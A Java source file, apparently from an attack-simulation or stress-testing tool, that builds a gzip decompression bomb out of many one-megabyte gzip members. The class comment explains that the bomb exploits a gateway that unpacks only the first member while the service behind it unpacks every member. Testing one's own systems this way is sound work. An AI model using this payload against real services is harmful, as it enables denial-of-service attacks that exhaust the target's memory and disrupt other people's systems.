package io.lancang.standalone.siege.attack.imports;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.zip.GZIPOutputStream;

/** Little gzip that unpacks to much. A service unpacks all members; the HTTP server of the gateway only the first. */
final class Bomb {
    private static final int MEGABYTE = 1 << 20;

    private Bomb() {}

    /**
     * A beginning, then megabytes of the same. Each megabyte is a member of its own, which RFC 1952 allows, so that it is packed
     * once and not a thousand times.
     */
    static byte[] of(String beginning, String piece, int megabytes) {
        ByteArrayOutputStream bomb = new ByteArrayOutputStream();
        bomb.writeBytes(packed(beginning));
        byte[] member = packed(piece.repeat(MEGABYTE / piece.length()));
        for (int megabyte = 0; megabyte < megabytes; megabyte++) {
            bomb.writeBytes(member);
        }
        return bomb.toByteArray();
    }

    private static byte[] packed(String text) {
        ByteArrayOutputStream packed = new ByteArrayOutputStream();
        try (GZIPOutputStream out = new GZIPOutputStream(packed)) {
            out.write(text.getBytes(StandardCharsets.UTF_8));
        } catch (IOException impossible) {
            throw new UncheckedIOException(impossible);
        }
        return packed.toByteArray();
    }
}
